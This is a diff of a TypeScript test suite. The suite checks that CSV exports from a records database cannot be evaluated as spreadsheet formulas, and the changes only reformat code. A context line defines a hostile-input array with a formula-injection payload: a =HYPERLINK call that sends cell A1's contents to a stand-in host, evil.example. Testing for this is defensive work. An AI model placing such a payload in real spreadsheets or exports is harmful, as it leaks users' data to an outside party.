@@ -22,7 +22,12 @@ const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', '@SUM(1)'
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 const encode = (text: string) => new TextEncoder().encode(text);
-const source = (name: string, text: string) => ({ name, open: async function* () { yield encode(text); } });
+const source = (name: string, text: string) => ({
+  name,
+  open: async function* () {
+    yield encode(text);
+  },
+});
 
 /** Every cell of the CSV as a spreadsheet library reads it: none may be a formula or start like one. */
 async function csvCells(text: string, dir: string): Promise<ExcelJS.Cell[]> {
@@ -47,7 +52,9 @@ describe.each(ENGINES)('%s: exports a spreadsheet cannot evaluate', (engine) => 
   let server: RunningServerLike;
   let dir: string;
   const titles = async () =>
-    (await db.kysely.selectFrom('records').select(['dossier_id', 'title', 'supplier']).orderBy('dossier_id').execute()).map((r) => `${r.dossier_id}|${r.title}|${r.supplier}`);
+    (await db.kysely.selectFrom('records').select(['dossier_id', 'title', 'supplier']).orderBy('dossier_id').execute()).map(
+      (r) => `${r.dossier_id}|${r.title}|${r.supplier}`,
+    );
 
   beforeAll(async () => {
     db = await createTestDatabase(engine);
@@ -61,7 +68,12 @@ describe.each(ENGINES)('%s: exports a spreadsheet cannot evaluate', (engine) => 
     expect((await importFile(db, source('hostile.csv', templateCsv(records)))).accepted).toBe(records.length);
     // Text that itself starts with an apostrophe before a formula sign must survive as written.
     const [row] = await db.kysely.selectFrom('records').select('id').where('dossier_id', '=', records[1]!.dossierId).execute();
-    await correctRecord(db, { recordId: row!.id, changes: { title: "'=already quoted", supplier: "''+twice" }, reason: 'test', principal: localAdmin('tester') });
+    await correctRecord(db, {
+      recordId: row!.id,
+      changes: { title: "'=already quoted", supplier: "''+twice" },
+      reason: 'test',
+      principal: localAdmin('tester'),
+    });
     server = await startServer(db);
   });
   afterAll(async () => {
